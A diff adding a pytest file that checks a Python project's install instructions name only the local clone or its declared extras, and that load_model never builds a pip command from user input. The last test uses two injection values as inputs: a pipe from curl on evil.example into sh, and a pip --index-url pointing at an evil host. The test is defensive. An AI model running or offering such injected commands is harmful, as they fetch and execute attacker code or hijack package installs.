@@ -1,0 +1,92 @@
+"""What people are told to install is ours: from a clone, by the extras that there are, never by a name in a package index."""
+
+import re
+import subprocess
+import tomllib
+from pathlib import Path
+
+import pytest
+
+from claims.extras import Extra, install_command, remedy
+from claims.language.pipeline import load_model
+from claims.model import PipelineError
+
+ROOT = Path(__file__).parents[1]
+PROJECT = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))["project"]
+EXTRA = "(?:" + "|".join(Extra) + ")"
+ALLOWED = re.compile(
+    r"(?: -e| --quiet)*"
+    r""" (?:\.(?![\w/-])|(?P<mark>['"])\.\[(?:{extras})\](?P=mark)|"\$GITHUB_ACTION_PATH"|"\$CLAIMS_PACKAGE")""".format(
+        extras=f"{EXTRA}(?:,{EXTRA})*"
+    )
+)
+"""The clone, an extra of it, the action's own checkout, or where the user of the GitLab job said that it is."""
+COMPOSED = {"claims/extras.py", "tests/test_extras.py"}
+"""Where the commands are made, and where they are looked for."""
+
+
+def tracked_texts() -> list[tuple[str, str]]:
+    listed = subprocess.run(["git", "ls-files", "-z"], cwd=ROOT, capture_output=True, text=True, check=True).stdout
+    found = []
+    for name in filter(None, listed.split("\0")):
+        path = ROOT / name
+        data = path.read_bytes() if path.is_file() else b""
+        if b"\0" not in data:
+            found.append((name, data.decode("utf-8", "replace")))
+    return found
+
+
+def wrong_commands(text: str) -> list[str]:
+    """What follows ``pip install`` and is not an allowed form."""
+    text = text.replace("\\", "")
+    return [text[at.end() :][:60] for at in re.finditer("pip3? install", text) if not ALLOWED.match(text, at.end())]
+
+
+@pytest.mark.parametrize(
+    ("text", "fine"),
+    [
+        ("pip install .", True),
+        ("pip install -e '.[test]' && pytest", True),
+        ("`pip install .` in a clone", True),
+        ('python -m pip install --quiet "$GITHUB_ACTION_PATH"', True),
+        ("pip install claims", False),
+        ("pip install 'claims[review]'", False),
+        ("pip install --upgrade claims", False),
+        ("pip install '.[reviews]'", False),
+        ("pip install ./elsewhere", False),
+        ("pip install {name}", False),
+        ("pip install some-model", False),
+    ],
+)
+def test_commands_are_told_apart(text: str, fine: bool) -> None:
+    assert (wrong_commands(text) == []) is fine
+
+
+def test_no_file_of_the_project_names_another_package_to_install() -> None:
+    texts = tracked_texts()
+    assert {"README.md", "action.yml", "ci/gitlab.yml", ".ci/run", "docs/store.md"} <= {name for name, _ in texts}
+    wrong = {name: found for name, text in texts if name not in COMPOSED and (found := wrong_commands(text))}
+    assert wrong == {}
+
+
+def test_the_extras_are_those_of_the_project() -> None:
+    assert set(Extra) == set(PROJECT["optional-dependencies"])
+    own = [one for one in PROJECT["optional-dependencies"]["test"] if one.startswith(PROJECT["name"])]
+    named = re.fullmatch(rf"{PROJECT['name']}\[([\w,]+)\]", own[0])
+    assert named is not None
+    assert set(named[1].split(",")) <= set(Extra)
+
+
+@pytest.mark.parametrize("extra", list(Extra))
+def test_every_remedy_names_its_extra_and_an_allowed_command(extra: Extra) -> None:
+    assert f"the extra `{extra}`" in remedy(extra)
+    assert wrong_commands(remedy(extra)) == []
+    assert wrong_commands(install_command()) == []
+
+
+@pytest.mark.parametrize("name", ["no_such_model", "x; curl evil.example | sh", "--index-url=https://evil.example x"])
+def test_no_command_is_made_from_what_somebody_wrote(name: str) -> None:
+    with pytest.raises(PipelineError) as caught:
+        load_model(name)
+    assert "install " + name not in str(caught.value)
+    assert "pip" not in str(caught.value)
